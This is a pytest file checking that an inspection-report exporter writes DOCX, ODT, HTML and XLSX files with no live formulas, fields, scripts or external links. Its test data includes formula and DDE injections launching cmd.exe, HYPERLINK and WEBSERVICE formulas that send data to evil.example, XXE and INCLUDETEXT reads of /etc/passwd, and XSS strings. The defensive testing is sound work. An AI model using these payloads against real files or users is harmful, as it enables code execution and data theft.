"""Words that another program would act on leave as words: no formula, field, script or reference, in no format."""

import io
import re
import zipfile
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from inspector_app.core.domain.inspection import Finding, FindingKind
from inspector_app.core.report import content
from inspector_app.core.report.formats import docx, html, odt, xlsx
from inspector_app.core.services.documents import exchange
from tests.report.test_formats import composed, quiet

WORDS = [
    "=cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)', '=WEBSERVICE("http://evil.example")', "\t=1+1", "=1+1\n=2+2",
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', '{ INCLUDETEXT "file:///etc/passwd" }',
    "{ INCLUDEPICTURE http://evil.example/x.png }", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "</title><script src=//evil.example></script>", "javascript:alert(1)", "<a href='javascript:alert(1)'>x</a>",
    "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "]]><w:p/>", "<?php x ?>", "<!--", "-->", "&lt;b&gt;",
    "<style>@import 'http://evil.example'</style>", "<svg onload=alert(1)>", "http://evil.example", "file:///etc/passwd",
    "\\\\evil.example\\share", "mailto:x@evil.example", "<office:script/>", "<text:a xlink:href='http://evil.example'/>",
]  # fmt: skip
ELSEWHERE = re.compile(r"(?i)(?:https?:|file:|ftp:|//|\\\\|javascript:|data:text|mailto:)")


@pytest.fixture(scope="module")
def report() -> content.Report:
    """A draft in which each of them is a finding, beside the sample's own."""
    kinds = list(FindingKind)
    made = (
        Finding(standard="2.1", kind=kinds[number % len(kinds)], text=f"{words} and on\n- {words}")
        for number, words in enumerate(WORDS)
    )
    return composed(exchange.sample_document(), *made)


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def elements(parts_of: dict[str, bytes]) -> list[ElementTree.Element]:
    return [element for name, data in parts_of.items() if data and name.endswith((".xml", ".rels"))
            for element in ElementTree.fromstring(data).iter()]  # fmt: skip


def local(name: str) -> str:
    return name.rpartition("}")[2]


def test_a_word_document_has_no_field_that_acts_and_leads_nowhere(report: content.Report) -> None:
    found = parts(docx.write(report, quiet))
    assert not [name for name in found if re.search(r"vba|embed|activex|attachedTemplate", name, re.I)]
    for element in elements(found):
        if local(element.tag) == "Relationship":
            assert element.get("TargetMode") != "External", element.attrib
        if local(element.tag) in ("instrText", "fldSimple"):
            said = element.text or next((value for name, value in element.items() if local(name) == "instr"), "")
            assert said.split()[0] in ("TOC", "PAGE", "NUMPAGES", "PAGEREF", "REF", "SEQ"), said


def test_an_open_document_has_no_script_and_leads_nowhere(report: content.Report) -> None:
    found = parts(odt.write(report, quiet))
    assert not [name for name in found if re.search(r"Basic|Scripts", name)]
    for element in elements(found):
        assert local(element.tag) not in (
            "script",
            "event-listener",
            "dde-source",
            "dde-connection",
            "applet",
            "plugin",
        )
        for name, value in element.attrib.items():
            assert local(name) != "href" or not ELSEWHERE.match(value), value


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_a_web_page_has_nothing_that_acts_and_leads_nowhere(report: content.Report) -> None:
    page = _Page()
    page.feed(html.write(report, quiet).decode())
    for tag, attributes in page.tags:
        assert tag not in ("script", "iframe", "object", "embed", "link", "base", "form", "input"), tag
        assert not [name for name in attributes if name.startswith("on")], attributes
        for name in ("href", "src", "action", "srcset", "xlink:href"):
            assert not ELSEWHERE.match(attributes.get(name) or ""), attributes
    text = html.write(report, quiet).decode()
    assert text.count("<style") == 1
    assert "&lt;script&gt;" in text


def test_a_workbook_has_no_formula_and_leads_nowhere(report: content.Report) -> None:
    data = xlsx.write(report, quiet)
    found = parts(data)
    assert not [name for name in found if re.search(r"external|vba|connections|calcChain", name, re.I)]
    for element in elements(found):
        assert local(element.tag) not in ("f", "ddeLink", "oleLink", "hyperlink") or not element.get("id"), (
            element.attrib
        )
        assert local(element.tag) != "f", "a formula"
        assert element.get("TargetMode") != "External" or element.get("Target", "").startswith("#"), element.attrib
    for sheet in load_workbook(io.BytesIO(data)):
        assert {cell.data_type for row in sheet for cell in row} <= {"s", "n"}  # type: ignore[union-attr]
